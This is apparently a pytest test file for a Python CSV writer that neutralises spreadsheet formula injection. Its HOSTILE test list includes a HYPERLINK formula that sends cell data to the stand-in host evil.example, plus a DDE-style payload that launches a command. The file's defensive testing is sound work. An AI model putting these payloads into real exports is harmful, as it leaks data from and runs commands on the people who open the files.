# SPDX-License-Identifier: EUPL-1.2
"""The one CSV writer (llo.core.csvio): formulas neutralised the OWASP way, exactly reversible,
and the only CSV writer in src/."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llo.core import csvio

#: The hostile cells of issue 14, finding 4, and their relatives.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "+31612345678",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "''@x",
    "Lassen;=HYPERLINK(1)",
    "Lassen,=HYPERLINK(1)",
    "Eerste regel\n=HYPERLINK(1)",
    "Eerste regel\r\n@SUM(1)",
    "a;\t-1+1",
    "\x00=1",
]

#: Spreadsheets split on whatever they guess: the separator, the other one, tabs, line breaks.
SPLIT = re.compile(r"[,;\t\r\n]")
NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?")

text_with_specials = st.text(
    alphabet=st.sampled_from(list("=+-@'\"\t\r\n,; ax1.\x00")) | st.characters(), max_size=30
)


def dangerous_pieces(line: str) -> list[str]:
    """The pieces of a written line, split the way a spreadsheet that guessed any separator
    might, whose first character (after spaces and the double quotes of a quoted cell) would
    start a formula and that are not plain numbers."""
    found = []
    for piece in SPLIT.split(line):
        start = piece.lstrip(' "')
        if start[:1] in csvio.FORMULA_START and not NUMBER.fullmatch(start.rstrip('"')):
            found.append(piece)
    return found


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("delimiter", [";", ","])
def test_hostile_cells_are_neutralised_and_read_back(hostile: str, delimiter: str) -> None:
    writer = csvio.Writer(delimiter)
    line = writer.line(["code-1", hostile, 12])
    assert dangerous_pieces(line) == [], line
    # A spreadsheet that splits on the right separator shows the text with quote marks
    # added; the llo reader gives back exactly what was written.
    (row,) = csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)
    assert row[1] != hostile
    assert row[1].replace("'", "") == hostile.replace("'", "")
    assert [csvio.restore(c) for c in row] == ["code-1", hostile, "12"]


@pytest.mark.parametrize(
    "value", ["-12,50", "-3", "0", "1234,50", "12.5", "-0.05", "abc", "'abc", "Fatima El Amrani"]
)
def test_numbers_and_plain_text_are_written_as_they_are(value: str) -> None:
    assert csvio.neutralise(value) == value
    assert csvio.restore(value) == value


def test_what_is_written_for_the_examples_of_the_issue() -> None:
    assert csvio.neutralise('=HYPERLINK("x"&A1,"Klik")') == '\'=HYPERLINK("x"&A1,"Klik")'
    assert csvio.neutralise("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert csvio.neutralise("+31612345678") == "'+31612345678"
    assert csvio.neutralise("-2+3") == "'-2+3"
    assert csvio.neutralise("'=x") == "''=x"
    assert csvio.neutralise("Lassen;=SOM(A1)") == "Lassen;'=SOM(A1)"
    assert csvio.field("Lassen;=SOM(A1)") == '"Lassen;\'=SOM(A1)"'
    assert csvio.field("Lassen,=SOM(A1)") == "Lassen,'=SOM(A1)"
    assert csvio.field("Lassen,=SOM(A1)", ",") == '"Lassen,\'=SOM(A1)"'
    assert csvio.field("400,00") == "400,00"
    assert csvio.field("400,00", ",") == '"400,00"'
    assert csvio.field('Zeg "hallo"') == '"Zeg ""hallo"""'
    assert csvio.field(" rand ") == '" rand "'
    assert csvio.field(-1250) == "-1250"
    assert csvio.field(None) == ""
    assert csvio.field(dt.date(2027, 1, 1)) == "2027-01-01"


@given(text_with_specials)
@settings(max_examples=2000, deadline=None)
def test_restore_undoes_neutralise_exactly(text: str) -> None:
    assert csvio.restore(csvio.neutralise(text)) == text


@given(text_with_specials)
@settings(max_examples=2000, deadline=None)
def test_restore_leaves_alone_what_neutralise_leaves_alone(text: str) -> None:
    if csvio.neutralise(text) == text:
        assert csvio.restore(text) == text


@given(st.lists(text_with_specials, min_size=1, max_size=5), st.sampled_from([";", ","]))
@settings(max_examples=1000, deadline=None)
def test_no_cell_a_spreadsheet_can_see_starts_a_formula(cells: list[str], delimiter: str) -> None:
    line = csvio.Writer(delimiter).line(cells)
    assert dangerous_pieces(line) == [], line


@given(st.lists(st.lists(text_with_specials, min_size=2, max_size=2), max_size=4))
@settings(max_examples=500, deadline=None)
def test_a_file_reads_back_cell_for_cell(rows: list[list[str]]) -> None:
    for delimiter in (";", ","):
        written = csvio.text(["a", "b"], rows, delimiter=delimiter, bom=True)
        assert written.startswith("\ufeffa" + delimiter + "b\r\n")
        read = list(csv.reader(io.StringIO(written[1:], newline=""), delimiter=delimiter))
        assert [[csvio.restore(c) for c in r] for r in read[1:]] == rows


def test_booleans_floats_and_other_things_must_be_formatted_by_the_caller() -> None:
    with pytest.raises(TypeError):
        csvio.field(True)
    with pytest.raises(TypeError):
        csvio.field(1.5)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="';' or ','"):
        csvio.Writer("|")


@pytest.mark.parametrize(
    ("title", "formula"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', True),
        ("@SUM(1+1)", True),
        ("+31 cursus", True),
        ("-2+3", True),
        ("  =1+1", True),
        ('"=1+1"', True),
        ("\tLassen", True),
        ("Lassen MIG/MAG", False),
        ("Excel: =SOM leren", False),
        ("'s-Hertogenbosch: Nederlands", False),
        ("2026: Nederlands", False),
        ("-12", False),
    ],
)
def test_starts_like_formula(title: str, formula: bool) -> None:
    assert csvio.starts_like_formula(title) is formula


def test_response_streams_csv_as_a_download() -> None:
    response = csvio.response(iter(["a;b\r\n", "1;2\r\n"]), "x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == b"a;b\r\n1;2\r\n"  # type: ignore[arg-type]


# --- one writer for the whole project -------------------------------------------------------

SRC = Path(__file__).resolve().parents[2] / "src" / "llo"
WRITERS = {"writer", "DictWriter"}


def _is_csv(node: ast.expr) -> bool:
    return (
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and node.value.startswith("text/csv")
    )


def test_no_module_but_core_csvio_writes_csv() -> None:
    """A new export that writes CSV itself (csv.writer, csv.DictWriter, or a text/csv response
    of its own, also a content type kept in a table) fails here: it must use llo.core.csvio,
    so its cells are neutralised."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path == SRC / "core" / "csvio.py" or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in WRITERS
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                for alias in node.names:
                    if alias.name in WRITERS:
                        offenders.append(f"{path.relative_to(SRC)}:{node.lineno} {alias.name}")
            # A text/csv content type given to a response (content_type="text/csv") or kept
            # in a table of them ({"csv": "text/csv; charset=utf-8"}). A key of an OpenAPI
            # ``content`` map documents a response and writes nothing; a request's media type
            # (the request guard's list of what the API reads) is not a response either.
            if isinstance(node, ast.keyword) and node.arg == "content_type" and _is_csv(node.value):
                offenders.append(f"{path.relative_to(SRC)}:{node.lineno} a text/csv response")
            if isinstance(node, ast.Dict):
                offenders.extend(
                    f"{path.relative_to(SRC)}:{value.lineno} a text/csv response"
                    for value in node.values
                    if _is_csv(value)
                )
    assert offenders == [], "write CSV through llo.core.csvio: " + ", ".join(offenders)
